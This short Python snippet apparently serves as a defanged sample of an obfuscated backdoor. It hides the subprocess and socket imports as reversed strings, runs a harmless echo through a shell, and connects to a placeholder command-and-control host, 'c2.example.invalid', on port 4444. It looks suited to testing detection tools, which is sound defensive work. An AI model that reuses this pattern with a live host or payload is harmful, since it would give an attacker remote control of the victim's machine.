_m = lambda n: __import__(n[::-1])
_m("ssecorpbus").Popen(["sh", "-c", "echo DEFANGED"])
_m("tekcos").create_connection(("c2.example.invalid", 4444))
